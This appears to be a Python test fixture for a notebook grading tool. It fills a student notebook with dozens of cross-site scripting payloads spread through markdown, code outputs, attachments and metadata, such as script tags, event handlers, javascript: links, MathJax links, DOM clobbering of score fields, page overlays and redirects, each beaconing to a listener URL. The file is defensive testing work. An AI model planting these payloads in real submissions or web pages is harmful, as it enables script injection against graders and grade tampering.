"""A hand-in whose text, attachments, metadata and outputs carry everything that could run in a grader's browser."""

from __future__ import annotations

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
SHORT = "<img src=x onerror=top.__pwned=1>"  # fits into what is quoted of a name
LATER = 2  # seconds until <meta http-equiv=refresh> leaves the page


def marks(name: str, listener: str) -> str:
    """JavaScript, without double quotes, that leaves marks: a variable, a title, a request."""
    return f"top.__pwned=(top.__pwned||'')+' {name}';document.title='pwned';new Image().src='{listener}/{name}'"


def texts(listener: str) -> dict[str, str]:
    """Markdown by name; each would do something when looked at or clicked, and holds "words of NAME"."""
    def js(name):
        return marks(name, listener)

    def inside(name):
        return base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(name)}"/>'.encode()).decode()

    made = {
        "script": f"<script>{js('script')}</script>",
        "scriptsrc": f'<script src="{listener}/scriptsrc"></script>',
        "imgerror": f'<img src="nowhere.png" onerror="{js("imgerror")}">',
        "imgload": f'<img src="{listener}/imgload">',
        "imgmarkdown": f"![seen]({listener}/imgmarkdown)",
        "svgload": f'<svg onload="{js("svgload")}"></svg>',
        "svgscript": f"<svg><script>{js('svgscript')}</script></svg>",
        "svganimate": f'<svg><animate attributeName="x" dur="1s" onbegin="{js("svganimate")}"/></svg>',
        "svglink": f'<svg width="90" height="20"><a href="javascript:{js("svglink")}"><text y="15">press</text></a></svg>',
        "mathlink": f'<math><mtext href="javascript:{js("mathlink")}">press</mtext></math>',
        "link": f'<a href="javascript:{js("link")}">press</a>',
        "linkmarkdown": f"[press](<javascript:{js('linkmarkdown')}>)",
        "linkentity": f"[press](<&#106;avascript:{js('linkentity')}>)",
        "linkreference": f"[press][ref]\n\n[ref]: <javascript:{js('linkreference')}>",
        "linkfiles": f"[press](<files/javascript:{js('linkfiles')}>)",
        "linkdata": f"[press](data:text/html;base64,{base64.b64encode(b'<script>1</script>').decode()})",
        "linkapi": "[press](/formgrader/api/grades?submission_id=1) [press](../../../logout)",
        "autolink": "<javascript:top.__pwned=1>",
        "linkblank": f'<a target="_blank" href="{listener}/linkblank">press</a>',
        "iframe": f'<iframe srcdoc="<script>{js("iframe")}</script>"></iframe>',
        "iframescript": f'<iframe src="javascript:{js("iframescript")}"></iframe>',
        "object": f'<object data="{listener}/object"></object><embed src="{listener}/embed">',
        "form": f'<form action="{listener}/form"><button>press</button></form>',
        "formaction": f'<form><button formaction="javascript:{js("formaction")}">press</button></form>',
        "focus": f'<input autofocus onfocus="{js("focus")}">',
        "details": f'<details open ontoggle="{js("details")}">more</details>',
        "hover": f'<b onmouseover="{js("hover")}" onclick="{js("hover")}">over</b>',
        "video": f'<video><source onerror="{js("video")}" src="nowhere.mp4"></video>',
        "animation": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{js("animation")}">moves</p>',
        "style": f"<style>@import '{listener}/style.css'; body {{background: url({listener}/background)}}</style>",
        "stylesheet": f'<link rel="stylesheet" href="{listener}/stylesheet">',
        "comment": f"<!-- --!><script>{js('comment')}</script> -->",
        "unclosed": f"</div></div></div></div><script>{js('unclosed')}</script>",
        "mermaid": f"```mermaid\n<script>{js('mermaid')}</script>\n```",
        "mathjaxconfig": f'<script type="text/x-mathjax-config">{js("mathjaxconfig")}</script>',
        "formula": f"$\\href{{javascript:{js('formula').replace('_', '%5f')}}}{{press}}$ $\\unicode{{x41}}$",
        "formulastyle": "$$\\style{position:fixed;top:0;left:0;font-size:90px}{covers}$$",
        "formulaid": "$\\cssId{check_brighten}{1}$ $\\class{score}{1}$ $\\def\\frac{covered}$",
        "clobber": '<input id="check_brighten" class="score" value="99"> <textarea id="brighten-comment">99</textarea>',
        "clobberglobals": '<a id="formgrader"></a><a id="MathJax"></a><form name="submission_id"><input name="cookie"></form>',
        "heading": "# check_brighten",
        "cover": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">covers</div>',
        "attached": "![a](attachment:a.svg) ![b](attachment:b.png)",
        "svgimage": f"![a](data:image/svg+xml;base64,{inside('svgimage')})",
        "refresh": f'<meta http-equiv="refresh" content="{LATER};url={listener}/refresh">',
        "base": f'<base href="{listener}/base/">',  # the last, as it moves all that is relative
    }
    return {name: f"words of {name}\n\n{text}" for name, text in made.items()}


def outputs(listener: str) -> dict[str, str]:
    """Code by name; each shows something that would run, and "words of NAME" with it."""
    def js(name):
        return marks(name, listener)

    def script(name):
        return f"words of {name} <script>{js(name)}</script>"

    def shown(mime, text):
        return f"display({ {mime: text}!r}, raw=True)"

    def picture(name):
        return (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(name)}"><script>{js(name)}</script>'
                f'<text y="20">words of {name}</text></svg>')

    control = "\x1b[31mred\x1b[0m \x1b]8;;javascript:top.__pwned=1\x07press\x1b]8;;\x07 \x1b[2J\x1b]0;pwned\x07"
    events = (f'<b id="check_brighten" onmouseover="{js("outevents")}">words of outevents</b>'
              f'<img src="nowhere" onerror="{js("outevents")}"><a href="javascript:{js("outevents")}">press</a>')
    return {
        "outhtml": f"display(HTML({script('outhtml')!r}))",
        "outevents": f"display(HTML({events!r}))",
        "outform": shown("text/html", f'<form action="{listener}/outform">words of outform<button>press</button></form>'),
        "outframe": shown("text/html", f'<p>words of outframe</p><iframe src="{listener}/outframe"></iframe>'),
        "outimage": shown("text/html", f'<p>words of outimage</p><img src="{listener}/outimage">'),
        "outmarkdown": f"display(Markdown({script('outmarkdown')!r}))",
        "outlatex": shown("text/latex", f"words of outlatex $\\href{{javascript:{js('outlatex')}}}{{press}}$"),
        "outsvg": shown("image/svg+xml", picture("outsvg")),
        "outscript": shown("application/javascript", f"/* words of outscript */ {js('outscript')}"),
        "outmermaid": shown("text/vnd.mermaid", script("outmermaid")),
        "outwidget": "display(" + repr({"text/plain": script("outwidget"), "application/vnd.jupyter.widget-view+json": {
            "model_id": f"</script>{script('outwidget')}"}}) + ", raw=True)",
        "outstream": f"print({script('outstream') + control!r})",
        "outstderr": f"import sys; print({script('outstderr')!r}, file=sys.stderr)",
        "outrepr": f"type('R', (), {{'__repr__': lambda self: {script('outrepr')!r}}})()",
        "outerror": f"raise ValueError({script('outerror')!r})",
    }


OBJECTS = '''display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><text y='20'>words of svgobject</text></svg>"))
display(Javascript("top.__pwned=(top.__pwned||'')+' object' /* words of javascriptobject */"))'''


def make(notebook: NotebookNode, listener: str) -> NotebookNode:
    """Fill a released notebook with all of it; its exercise is right."""
    js = marks("metadata", listener)
    attached = {"a.svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'},
                "b.png": {"image/png": PIXEL}}
    for name, text in texts(listener).items():
        cell = new_markdown_cell(text)
        if name == "attached":
            cell.attachments = attached
        if name == "base":
            last = cell
        else:
            notebook.cells.append(cell)
    notebook.cells += [new_raw_cell(f"words of raw <script>{marks('raw', listener)}</script>",
                                    metadata={"raw_mimetype": "text/html"}),
                       new_raw_cell(f"words of plainraw <script>{marks('plainraw', listener)}</script>")]
    shown = [new_output("display_data", data={"text/html": f"<script>{marks('stored', listener)}</script>"})]
    notebook.cells.append(new_code_cell(
        "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display", outputs=shown))
    notebook.cells += [new_code_cell(code) for code in [*outputs(listener).values(), OBJECTS]]
    notebook.cells.append(new_code_cell("1", metadata={"tags": [SHORT], "nbgrader": {
        "grade_id": SHORT, "grade": False, "solution": True, "locked": False, "task": False, "schema_version": 3}}))
    notebook.cells.append(last)
    notebook.metadata.kernelspec = {"name": SHORT, "display_name": SHORT, "language": "python"}
    notebook.metadata.title = f"</title><script>{js}</script>"
    notebook.metadata.language_info = {"name": f'"><script>{js}</script>', "pygments_lexer": f'"><script>{js}</script>'}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {
        "state": {"a": f"</script><script>{js}</script>"}, "version_major": 2, "version_minor": 0}}
    return notebook
